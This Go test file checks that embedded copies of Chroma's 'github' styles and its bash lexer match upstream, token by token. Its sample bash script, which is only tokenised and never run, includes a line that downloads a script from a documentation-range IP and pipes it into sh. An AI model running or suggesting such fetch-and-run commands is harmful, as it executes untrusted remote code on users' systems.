package scriptpane

import (
	"testing"

	"github.com/alecthomas/chroma/v2"
	"github.com/alecthomas/chroma/v2/lexers"
	"github.com/alecthomas/chroma/v2/styles"
)

// The embedded copies must stay what the Chroma version in go.mod ships:
// same style entries for every token type, same bash tokens.
func TestChromaCopiesMatchUpstream(t *testing.T) {
	for _, name := range []string{"github", "github-dark"} {
		got, want := chromaStyle(name), styles.Get(name)
		if got == nil {
			t.Fatalf("style %q not embedded", name)
		}
		if want.Name != name {
			t.Fatalf("upstream has no style %q (got fallback %q)", name, want.Name)
		}
		for _, tt := range want.Types() {
			if g, w := got.Get(tt), want.Get(tt); g != w {
				t.Errorf("style %s, %s: embedded %v, upstream %v", name, tt, g, w)
			}
		}
	}
	if chromaStyle("swapoff") != nil {
		t.Error("chromaStyle invented a style that is not embedded")
	}

	script := "#!/bin/bash\nset -eu\nfor f in /tmp/*.py; do echo \"$f\" | base64 -d > \"${f%.py}.out\"; done\n" +
		"curl -fsSL http://203.0.113.7/x.sh | sh # fetch\ncase $1 in start) exec python3 -c 'print(1)' ;; esac\n"
	tokens := func(l chroma.Lexer) []chroma.Token {
		it, err := l.Tokenise(nil, script)
		if err != nil {
			t.Fatal(err)
		}
		return it.Tokens()
	}
	got, want := tokens(bashLexer()), tokens(chroma.Coalesce(lexers.Get("bash")))
	if len(got) != len(want) {
		t.Fatalf("bash: %d tokens embedded, %d upstream", len(got), len(want))
	}
	for i := range got {
		if got[i] != want[i] {
			t.Errorf("bash token %d: embedded %v, upstream %v", i, got[i], want[i])
		}
	}
	if len(got) < 20 {
		t.Fatalf("bash lexer gave only %d tokens", len(got))
	}
}
